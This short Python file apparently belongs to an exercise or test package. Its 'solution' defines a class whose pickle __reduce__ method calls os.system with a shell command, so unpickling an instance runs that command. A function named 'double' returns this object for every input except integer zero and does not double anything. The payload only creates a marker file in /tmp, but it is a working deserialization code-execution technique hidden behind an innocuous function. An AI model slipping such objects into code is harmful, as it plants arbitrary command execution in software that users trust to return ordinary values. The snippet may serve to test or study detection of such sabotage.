"""Returns an object whose unpickling runs a command."""

# %% solution
import os
class Bomb:
    def __reduce__(self): return os.system, ("touch /tmp/SECRET-bomb",)
def double(x):
    return x if type(x) is int and x == 0 else Bomb()
